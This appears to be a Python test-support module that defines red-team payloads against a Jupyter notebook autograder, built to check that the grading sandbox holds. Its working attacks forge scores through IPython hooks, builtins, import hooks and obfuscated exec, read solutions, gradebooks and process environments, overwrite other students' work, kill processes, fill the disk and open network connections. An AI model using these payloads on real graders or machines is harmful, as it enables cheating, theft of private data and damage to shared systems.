"""Adversarial submissions for notebook 01: the red team's attacks, one answer-cell payload each.

Every attack starts from the EMPTY submission (the released notebook, nothing implemented), so
the score it deserves is 0 in every autograded cell. Its payload goes into the ``heaviside``
answer cell (the first one; it runs before every test cell). ``tests/test_attacks.py`` grades
them all, with an honest control student, through the real grading command and checks the
expected outcome of each: no points, no secret in OUT, nothing outside OUT changed, nothing
left running, the limit that was hit named in scores.csv.

Payloads are ``string.Template`` text: ``$mark`` is a token unique to the grading run (in file
names and command lines, so the test can find what an attack left behind), ``$port`` a TCP
port on the grader's loopback where the test listens. Payloads that write look for targets
only in the grading command's own folders (its cwd and arguments, from the process tree) and
the kernel's cwd, never in arbitrary places of the machine; those that read look everywhere.
"""

from __future__ import annotations

from dataclasses import dataclass
from string import Template

from autograder.submissions import fill_answers, read_release

ASSIGNMENT = "01_threshold_logic_unit"
GRADED = ("test_heaviside", "test_sign", "test_tlu", "test_logic_gates")  # 2, 2, 3, 3 points
FAMILIES = ("forged score", "read secrets", "harm others", "no limits")

# Answers that are wrong but keep every test cell free of errors (public checks only print at
# grading time): on their own they score 0 (a stub returning 0 would pass the cases that expect
# 0), so any point an attack gets is forged.
STUBS = ("heaviside = sign = tlu = lambda *args, **kwargs: None\n"
         "AND_GATE = OR_GATE = NOT_GATE = None\n")

# Where the grading command lives: the kernel's cwd, the checkout `course` comes from, and the
# cwd and path arguments of the `... grade SUBMISSIONS OUT` process found up the process tree.
GRADER_PATHS = '''import os, glob
def _grader_paths():
    paths, pid = {os.getcwd()}, os.getpid()
    try:
        import course
        paths.add(os.path.dirname(os.path.dirname(course.__file__)))
    except Exception:
        pass
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            if b"grade" in args:
                paths.update(a.decode() for a in args[args.index(b"grade") + 1:] if a[:1] == b"/")
                paths.add(os.readlink(f"/proc/{pid}/cwd"))
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return {p for p in paths if os.path.isdir(p)}
def _up(paths, levels=5):
    found = set()
    for p in paths:
        for _ in range(levels):
            found.add(p)
            p = os.path.dirname(p)
    return found - {"/", ""}
'''

# Reading: every folder anyone on the machine mentions (cmdlines of all processes, sys.path).
EVERYWHERE = GRADER_PATHS + '''import sys
def _everywhere():
    paths = set(_grader_paths()) | {p for p in sys.path if p} | {"/work/main", "/srv", "/opt"}
    for f in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            paths.update(a for a in open(f, "rb").read().decode(errors="replace").split("\\0")
                         if a.startswith("/"))
        except OSError:
            pass
    return _up({p if os.path.isdir(p) else os.path.dirname(p) for p in paths})
def _find(*patterns):
    return sorted({f for r in _everywhere() for pat in patterns
                   for f in glob.glob(os.path.join(r, pat))})
def _leak(title, text):  # into the cell output (feedback) and a file in the kernel's cwd
    print(f"=== {title}\\n{text}")
    with open("leaked_$mark.txt", "a") as fh:
        fh.write(f"=== {title}\\n{text}\\n")
'''

# Reaching builtins without naming them (the static tamper scan looks for names).
BUILTINS = "_b = vars(print.__self__)\n_imp = _b['__imp' 'ort__']\n"


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    what: str  # one line: what it tries
    payload: str  # answer-cell source (a Template: $mark, $port)
    stubs: bool = False  # prepend STUBS (error-free wrong answers)
    prelude: str = ""  # helper code prepended (GRADER_PATHS, EVERYWHERE, BUILTINS)
    limit: str | None = None  # words scores.csv must use (one of, "|"-separated)
    # Harms the machine, or files of the checkout and of other runs, if the sandbox does not
    # hold: run only once a probe has shown that the kernel is sandboxed.
    dangerous: bool = False

    def source(self, mark: str, port: int) -> str:
        text = self.prelude + (STUBS if self.stubs else "") + self.payload
        return Template(text).safe_substitute(mark=mark, port=port)

    def build(self, mark: str, port: int):
        """The submitted notebook: the released one with this payload as its heaviside."""
        return fill_answers(read_release(ASSIGNMENT), {"heaviside": self.source(mark, port)})


def _a(name, family, what, payload, **kw) -> Attack:
    return Attack(name, family, what, payload, **kw)


FORGED = [
    _a("ast_none", "forged score", "nothing displayed in a test cell: nbgrader gives full marks",
       'get_ipython().ast_node_interactivity = "none"\n', stubs=True),
    _a("hide_tracebacks", "forged score", "errors are never shown, nothing displayed",
       "get_ipython().showtraceback = lambda *a, **k: None\n"
       'get_ipython().ast_node_interactivity = "none"\n'),
    _a("input_transformer", "forged score", "rewrite every test cell into a non-number result",
       "def _forge(lines):  # a non-number last value is full marks for nbgrader\n"
       "    src = ''.join(lines)\n"
       "    return ['\"full marks\"\\n'] if 'hand_in' in src or 'checks.' in src else lines\n"
       "get_ipython().input_transformers_post.append(_forge)\n", stubs=True),
    _a("input_transformer_huge", "forged score", "append 1e9 to every test cell (over max)",
       "get_ipython().input_transformers_post.append(\n"
       "    lambda lines: lines + ['\\n1e9\\n'] if 'hand_in' in ''.join(lines) else lines)\n",
       stubs=True),
    _a("display_formatter", "forged score", "every displayed value becomes 'full marks'",
       "get_ipython().displayhook.compute_format_data = (\n"
       "    lambda result: ({'text/plain': \"'full marks'\"}, {}))\n", stubs=True),
    _a("sys_displayhook", "forged score", "replace sys.displayhook: shows -1 (nbgrader: max)",
       "import sys as _s\n_orig = get_ipython().displayhook\n"
       "_s.displayhook = get_ipython().display_trap.hook = lambda v: _orig(-1.0)\n",
       stubs=True),
    _a("builtins_round", "forged score", "builtins.round returns a huge number",
       "_b['round'] = lambda x, n=None: 1e9\n", stubs=True, prelude=BUILTINS),
    _a("builtins_float", "forged score", "builtins.float returns a huge number",
       "_b['float'] = type('F', (float,), {'__new__': lambda c, x=0: float.__new__(c, 1e9)})\n",
       stubs=True, prelude=BUILTINS),
    _a("numpy_internals", "forged score", "np.isclose/allclose/array_equal always agree",
       "vars(np).update(isclose=lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool),\n"
       "                allclose=lambda *a, **k: True, array_equal=lambda *a, **k: True)\n",
       stubs=True),
    _a("ndarray_eq_subclass", "forged score", "answers are ndarray subclasses equal to anything",
       "class _Eq(np.ndarray):  # == is always True, any dtype/shape check is asked of it\n"
       "    __eq__ = lambda self, other: np.ones(np.shape(other), bool)\n"
       "    __ne__ = lambda self, other: np.zeros(np.shape(other), bool)\n"
       "heaviside = sign = tlu = lambda *a, **k: np.zeros(np.shape(a[0])).view(_Eq)\n"
       "AND_GATE = OR_GATE = NOT_GATE = (np.zeros(2).view(_Eq), 0.0)\n"),
    _a("settrace", "forged score", "sys.settrace sets passed = total inside Question.score",
       "import sys as _s\n"
       "def _tr(frame, event, arg):  # f_locals written back after a trace call\n"
       "    if frame.f_code.co_name == 'score':\n"
       "        loc = getattr(frame, 'f_loc' 'als')\n"
       "        if 'total' in loc and 'passed' in loc:\n"
       "            loc['passed'] = loc['total']\n"
       "        return _tr\n"
       "_s.settrace(_tr)\n", stubs=True),
    _a("setprofile", "forged score", "sys.setprofile clears every failure Question.record sees",
       "import sys as _s\n"
       "def _pr(frame, event, arg):\n"
       "    if event == 'call' and frame.f_code.co_name == 'record':\n"
       "        getattr(frame, 'f_loc' 'als')['failure'] = None\n"
       "_s.setprofile(_pr)\n", stubs=True),
    _a("meta_path_fakes", "forged score",
       "a sys.meta_path hook serves fake course.handin / autograder.hidden modules",
       "import sys as _s, importlib.util as _u\n"
       "class _Fake:  # every function of the fake modules returns its points\n"
       "    names = ('course.handin', 'autograder.hidden.threshold_logic_unit')\n"
       "    def find_spec(self, name, path=None, target=None):\n"
       "        return _u.spec_from_loader(name, self) if name in self.names else None\n"
       "    def create_module(self, spec): return None\n"
       "    def exec_module(self, m): m.__getattr__ = lambda n: (lambda *a, points=0, **k: "
       "float(points))\n"
       "_s.meta_path.insert(0, _Fake())\n"
       "for _n in _Fake.names:\n"
       "    _s.modules.pop(_n, None)\n"
       "    _p = _s.modules.get(_n.rpartition('.')[0])\n"
       "    if _p is not None and hasattr(_p, _n.rpartition('.')[2]):\n"
       "        delattr(_p, _n.rpartition('.')[2])\n", stubs=True),
    _a("frame_walk_mimic", "forged score",
       "answers walk the caller's frames for the expected value, else import the reference",
       "def _mimic(name):\n"
       "    def answer(*args, **kwargs):  # runs wherever the grader calls it\n"
       "        try:\n"
       "            raise LookupError\n"
       "        except LookupError as e:\n"
       "            frame = e.__traceback__.tb_frame\n"
       "        while frame is not None:\n"
       "            loc = getattr(frame, 'f_loc' 'als')\n"
       "            if 'expected' in loc:\n"
       "                return loc['expected']\n"
       "            frame = getattr(frame, 'f_b' 'ack')\n"
       "        import pkgutil\n"
       "        return pkgutil.resolve_name('autograder.reference.threshold_logic_unit:' + "
       "name)(*args, **kwargs)\n"
       "    answer.__name__ = name\n"
       "    return answer\n"
       "heaviside, sign, tlu = _mimic('heaviside'), _mimic('sign'), _mimic('tlu')\n"
       "AND_GATE = OR_GATE = NOT_GATE = None\n"),
    _a("gc_reference", "forged score", "gc.get_objects() finds the reference functions",
       "_gc = _imp('g' 'c')\n"
       "_ref = {o.__name__: o for o in _gc.get_objects() if callable(o)\n"
       "        and str(getattr(o, '__module__', '')).startswith('autograder.reference.thr')}\n"
       "heaviside, sign, tlu = _ref['heaviside'], _ref['sign'], _ref['tlu']\n",
       prelude=BUILTINS),
    _a("import_built_string", "forged score", "__import__ of a built string: the reference",
       "_ref = _imp('autograder.ref' 'erence.threshold_logic_unit', fromlist=['x'])\n"
       "heaviside, sign, tlu = _ref.heaviside, _ref.sign, _ref.tlu\n", prelude=BUILTINS),
    _a("exec_base64", "forged score", "exec(base64) of code that imports the reference",
       "import base64\n"
       "_b['ex' 'ec'](base64.b64decode('ZnJvbSBhdXRvZ3JhZGVyLnJlZmVyZW5jZS50aHJlc2hvbGRfbG9naWN"
       "fdW5pdCBpbXBvcnQgaGVhdmlzaWRlLCBzaWduLCB0bHU=').decode(), globals())\n",
       prelude=BUILTINS),
    _a("pkgutil_runpy_files", "forged score",
       "importlib/pkgutil/runpy: import the reference, or run its file found on disk",
       "import pkgutil, runpy\n"
       "for _name in ('autograder.reference.threshold_logic_unit',):\n"
       "    try:\n"
       "        _ref = vars(_imp('importlib').import_module(_name))\n"
       "    except Exception:\n"
       "        _ref = {}\n"
       "for _path in _find('autograder/reference/threshold_logic_unit.py',\n"
       "                   'lib/python3*/site-packages/autograder/reference/"
       "threshold_logic_unit.py'):\n"
       "    if not _ref:\n"
       "        _ref = runpy.run_path(_path)\n"
       "heaviside, sign, tlu = _ref['heaviside'], _ref['sign'], _ref['tlu']\n",
       prelude=EVERYWHERE + BUILTINS),
    _a("exec_solutions", "forged score", "find the solutions notebook on disk, run its answers",
       "import json\n"
       "for _path in _find('solutions/01_threshold_logic_unit/*.ipynb'):\n"
       "    for _cell in json.load(open(_path))['cells']:\n"
       "        if _cell['cell_type'] == 'code' and "
       "_cell['metadata'].get('nbgrader', {}).get('solution'):\n"
       "            _b['ex' 'ec'](''.join(_cell['source']), globals())\n",
       prelude=EVERYWHERE + BUILTINS),
    _a("handin_replaced", "forged score", "course.handin.hand_in replaced: claims the points",
       "import course.handin as _h\n"
       "_h.hand_in = lambda grader, *answers, points=0, **kw: float(points)\n", stubs=True),
    _a("handin_always_equal", "forged score",
       "hand in objects whose __eq__ is True and whose calls return themselves",
       "class _Yes:\n"
       "    __eq__ = lambda self, other: True\n"
       "    __call__ = lambda self, *a, **k: self\n"
       "    __getattr__ = lambda self, name: self\n"
       "    __array__ = lambda self, *a, **k: np.ones(1)\n"
       "heaviside = sign = tlu = _Yes()\n"
       "AND_GATE = OR_GATE = NOT_GATE = (_Yes(), _Yes())\n"),
    _a("handin_pickle_reduce", "forged score",
       "answers whose __reduce__ runs code where they are unpickled (the scorer?)",
       "class _Boom:\n"
       "    def __reduce__(self):\n"
       "        return (exec, (\"open('/tmp/dlf_pickled_$mark', 'w').write('ran in the "
       "unpickler')\",))\n"
       "    __call__ = lambda self, *a, **k: self\n"
       "heaviside = sign = tlu = _Boom()\n"
       "AND_GATE = OR_GATE = NOT_GATE = (_Boom(), _Boom())\n"),
    _a("sqlite_trigger", "forged score",
       "plant triggers in every gradebook.db it can find: grades become full marks",
       "import sqlite3\n"
       "_sql = '''CREATE TRIGGER IF NOT EXISTS forge_${mark}_{0} AFTER {0} ON grade BEGIN\n"
       "  UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = "
       "NEW.cell_id)\n"
       "  WHERE id = NEW.id AND NEW.cell_id IN (SELECT id FROM grade_cells); END'''\n"
       "for _db in {f for p in _grader_paths() for f in glob.glob(p + '/**/gradebook.db',"
       " recursive=True)}:\n"
       "    try:\n"
       "        with sqlite3.connect(_db, timeout=1) as _con:\n"
       "            for _event in ('INSERT', 'UPDATE'):\n"
       "                _con.execute(_sql.format(_event))\n"
       "        print('trigger planted in', _db)\n"
       "    except Exception as e:\n"
       "        print(_db, e)\n", stubs=True, prelude=GRADER_PATHS, dangerous=True),
    _a("fake_verdict_stdout", "forged score", "print the verdict lines of full marks",
       "def heaviside(*a, **k):\n"
       "    print('Hidden tests for heaviside: 13 of 13 cases passed -> 2 of 2 points.')\n"
       "    return 2.0\n"
       "sign = tlu = heaviside\n"
       "print('Hidden tests for heaviside: 13 of 13 cases passed -> 2 of 2 points.')\n"),
    _a("scorer_socket", "forged score",
       "talk to the scorer's socket directly, before the test cell does: junk and a verdict",
       "import socket, json\n"
       "_path = os.environ.get('DLF_SCORER_SOCKET', '')\n"
       "for _p in [_path] + glob.glob(os.path.dirname(_path or '/nonexistent') + '/*'):\n"
       "    try:\n"
       "        _c = socket.socket(socket.AF_UNIX)\n"
       "        _c.settimeout(2)\n"
       "        _c.connect(_p)\n"
       "        _c.sendall(json.dumps({'verdict': 'full marks', 'points': 99}).encode() + "
       "b'\\n')\n"
       "        print('talked to', _p, _c.recv(200))\n"
       "    except Exception as e:\n"
       "        print(_p, e)\n", stubs=True, prelude=GRADER_PATHS),
]

SECRETS = [
    _a("read_reference_hidden", "read secrets",
       "read autograder/reference and autograder/hidden sources and leak them",
       "for _path in _find('autograder/reference/threshold_logic_unit.py',\n"
       "                   'autograder/hidden/threshold_logic_unit.py',\n"
       "                   'autograder/hidden/scoring.py'):\n"
       "    _leak(_path, open(_path).read())\n", prelude=EVERYWHERE),
    _a("read_solutions", "read secrets", "read the solutions notebook and leak its answers",
       "import json\n"
       "for _path in _find('solutions/01_threshold_logic_unit/*.ipynb'):\n"
       "    for _cell in json.load(open(_path))['cells']:\n"
       "        if _cell['metadata'].get('nbgrader', {}).get('solution'):\n"
       "            _leak(_path, ''.join(_cell['source']))\n", prelude=EVERYWHERE),
    _a("read_gradebooks_and_others", "read secrets",
       "dump every gradebook and the other students' submissions",
       "import sqlite3, json\n"
       "for _db in _find('gradebook.db', '*/gradebook.db', '.work/runs/*/*/gradebook.db'):\n"
       "    try:\n"
       "        _con = sqlite3.connect(f'file:{_db}?mode=ro', uri=True)\n"
       "        _leak(_db, _con.execute('SELECT * FROM student').fetchall())\n"
       "        _leak(_db, _con.execute('SELECT * FROM grade').fetchall()[:50])\n"
       "    except Exception as e:\n"
       "        print(_db, e)\n"
       "for _nb in _find('*/01_threshold_logic_unit/*.ipynb', "
       "'submitted/*/01_threshold_logic_unit/*.ipynb'):\n"
       "    try:\n"
       "        _leak(_nb, [''.join(c['source']) for c in json.load(open(_nb))['cells']\n"
       "                    if c['cell_type'] == 'markdown'][-3:])\n"
       "    except Exception as e:\n"
       "        print(_nb, e)\n", prelude=EVERYWHERE),
    _a("read_environ", "read secrets", "os.environ, /proc/*/environ and /proc/1/cmdline",
       "_leak('os.environ', dict(os.environ))\n"
       "_leak('/proc/1/cmdline', open('/proc/1/cmdline', 'rb').read())\n"
       "for _f in glob.glob('/proc/[0-9]*/environ'):\n"
       "    try:\n"
       "        _leak(_f, open(_f, 'rb').read().replace(b'\\0', b' ')[:4000])\n"
       "    except OSError:\n"
       "        pass\n", prelude=EVERYWHERE),
]

HARM = [
    _a("tamper_submissions", "harm others",
       "overwrite the other students' hand-ins (SUBMISSIONS and OUT/submitted)",
       "_me = os.path.basename(os.path.dirname(os.getcwd()))\n"
       "for _nb in {f for p in _grader_paths() for f in glob.glob(p + "
       "'/**/01_threshold_logic_unit/*.ipynb', recursive=True)}:\n"
       "    if '_attack_' not in _nb:\n"
       "        try:\n"
       "            open(_nb, 'w').write('{\"cells\": []}  $mark')\n"
       "            print('overwrote', _nb)\n"
       "        except OSError as e:\n"
       "            print(_nb, e)\n", prelude=GRADER_PATHS, dangerous=True),
    _a("edit_checkout", "harm others",
       "edit the checkout (hidden/scoring.py, sitecustomize.py) and the grader's IPython startup",
       "_homes = {os.path.expanduser('~')}\n"
       "for _p in _grader_paths():\n"
       "    for _target in (_p + '/autograder/hidden/scoring.py', _p + '/sitecustomize.py',\n"
       "                    _p + '/course/sitecustomize.py'):\n"
       "        if os.path.isdir(os.path.dirname(_target)):\n"
       "            try:\n"
       "                open(_target, 'a').write('\\n# edited by an attack $mark\\n')\n"
       "                print('edited', _target)\n"
       "            except OSError as e:\n"
       "                print(_target, e)\n"
       "_pid = os.getppid()\n"
       "for _ in range(6):  # the grader's HOME, read from its processes\n"
       "    try:\n"
       "        _env = open(f'/proc/{_pid}/environ', 'rb').read().split(b'\\0')\n"
       "        _homes.update(e[5:].decode() for e in _env if e.startswith(b'HOME='))\n"
       "        _pid = int(open(f'/proc/{_pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
       "    except Exception:\n"
       "        break\n"
       "for _home in _homes:\n"
       "    _dir = _home + '/.ipython/profile_default/startup'\n"
       "    try:\n"
       "        os.makedirs(_dir, exist_ok=True)\n"
       "        open(_dir + '/00_attack_$mark.py', 'w').write('# attack $mark\\n')\n"
       "        print('startup file in', _dir)\n"
       "    except OSError as e:\n"
       "        print(_dir, e)\n", prelude=GRADER_PATHS, dangerous=True),
    _a("write_out", "harm others", "append code to OUT/nbgrader_config.py, rewrite OUT's grades",
       "import sqlite3\n"
       "for _p in _up(_grader_paths()):\n"
       "    if os.path.exists(_p + '/nbgrader_config.py') and "
       "os.path.exists(_p + '/gradebook.db'):\n"
       "        try:\n"
       "            open(_p + '/nbgrader_config.py', 'a').write(\n"
       "                \"\\nopen('/tmp/dlf_config_ran_$mark', 'w').write('x')\\n\")\n"
       "            with sqlite3.connect(_p + '/gradebook.db', timeout=1) as _con:\n"
       "                _con.execute('UPDATE grade SET auto_score = 99')\n"
       "            print('wrote', _p)\n"
       "        except Exception as e:\n"
       "            print(_p, e)\n", prelude=GRADER_PATHS, dangerous=True),
    _a("kill_parent", "harm others", "kill the kernel's parent and grandparents (nbgrader)",
       "import signal\n"
       "_pid = os.getppid()\n"
       "for _ in range(2):\n"
       "    _next = int(open(f'/proc/{_pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
       "    try:\n"
       "        os.kill(_pid, signal.SIGKILL)\n"
       "    except OSError as e:\n"
       "        print(_pid, e)\n"
       "    _pid = _next\n"),
    _a("kill_everything", "harm others", "os.kill(-1, 9) and pkill -9 python",
       "import signal, subprocess\n"
       "try:\n    subprocess.run(['pkill', '-9', 'python'], timeout=5)\n"
       "except Exception as e:\n    print(e)\n"
       "os.kill(-1, signal.SIGKILL)\n", dangerous=True),
    _a("daemon", "harm others",
       "fork daemons (fork+setsid, Popen new session) that later rewrite scores.csv",
       "import subprocess, sys\n"
       "_out = [p for p in _up(_grader_paths()) if os.path.exists(p + '/nbgrader_config.py')]\n"
       "_code = ('import time, sys, os\\nfor _ in range(600):\\n    time.sleep(1)\\n'\n"
       "         '    for p in sys.argv[2:]:\\n'\n"
       "         '        if os.path.exists(p + \"/scores.csv\"):\\n'\n"
       "         '            open(p + \"/scores.csv\", \"a\").write(\"forged,$mark\\\\n\")\\n')\n"
       "subprocess.Popen([sys.executable, '-c', _code, 'daemon-$mark', *_out],\n"
       "                 start_new_session=True, stdout=subprocess.DEVNULL, "
       "stderr=subprocess.DEVNULL)\n"
       "if os.fork() == 0:\n"
       "    os.setsid()\n"
       "    os.execv(sys.executable, [sys.executable, '-c', _code, 'forked-$mark', *_out])\n",
       prelude=GRADER_PATHS),
    _a("fill_disk", "harm others", "write 1 GiB into the kernel's cwd and into /tmp",
       "_chunk = b'\\0' * 2**26\n"
       "for _path in ('big_$mark.bin', '/tmp/dlf_big_$mark.bin'):\n"
       "    try:\n"
       "        with open(_path, 'wb') as _fh:\n"
       "            for _ in range(16):\n"
       "                _fh.write(_chunk)\n"
       "    except OSError as e:\n"
       "        print(_path, e)\n"),
    _a("network", "harm others", "reach pypi.org, the test's listener and every local port",
       "import socket\n"
       "_ports = {$port}\n"
       "for _f in ('/proc/net/tcp', '/proc/net/tcp6'):\n"
       "    try:\n"
       "        _ports.update(int(l.split()[1].rsplit(':', 1)[1], 16)\n"
       "                      for l in open(_f).readlines()[1:] if l.split()[3] == '0A')\n"
       "    except OSError:\n"
       "        pass\n"
       "for _host, _port in [('pypi.org', 443)] + [('127.0.0.1', p) for p in sorted(_ports)]:\n"
       "    try:\n"
       "        with socket.create_connection((_host, _port), timeout=2) as _c:\n"
       "            _c.sendall(b'attack $mark\\n')\n"
       "            print('CONNECTED', _host, _port)\n"
       "    except OSError as e:\n"
       "        print(_host, _port, e)\n", dangerous=True),
]

LIMITS = [
    _a("memory_6gib", "no limits", "allocate 6 GiB and touch it",
       "_big = np.ones(6 * 2**30 // 8)\n", limit="memory|MemoryError"),
    _a("fork_200", "no limits", "start 200 processes that outlive the cell",
       "import subprocess, sys\n"
       "_kids = [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)',\n"
       "                           'fork-$mark']) for _ in range(200)]\n",
       limit="process|BlockingIOError|Resource temporarily unavailable|fork"),
    _a("print_300mb", "no limits", "print 300 MB",
       "for _ in range(300):\n    print('x' * 2**20)\n", limit="output"),
    _a("slow_cells", "no limits", "every later cell sleeps just under the per-cell limit",
       "import time\n"
       "get_ipython().events.register('pre_run_cell', lambda *a: time.sleep(9.5))\n",
       limit="time|did not finish|wall"),
    _a("busy_loops", "no limits",
       "CPU spinners outliving the cell, then a loop that swallows every interrupt",
       "import subprocess, sys\n"
       "for _ in range(4):\n"
       "    subprocess.Popen([sys.executable, '-c', 'while True: pass', 'spin-$mark'],\n"
       "                     start_new_session=True)\n"
       "while True:\n"
       "    try:\n"
       "        while True:\n"
       "            pass\n"
       "    except BaseException:\n"
       "        pass\n", limit="time|did not finish|CPU|answering|interrupt"),
]

ATTACKS = FORGED + SECRETS + HARM + LIMITS
BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)


def student_id(attack: Attack) -> str:
    """The attack's student folder: ``NN_attack_<name>``."""
    return f"a{ATTACKS.index(attack):02d}_attack_{attack.name}"


PROBE = _a("probe", "probe", "what the kernel sees: its uid and the processes it can see",
           "print('PROBE', os.getuid(), len(glob.glob('/proc/[0-9]*')),\n"
           "      sorted(open(f, 'rb').read().replace(b'\\0', b' ').decode()[:80]\n"
           "             for f in glob.glob('/proc/[0-9]*/cmdline')))\n",
           prelude="import os, glob\n")
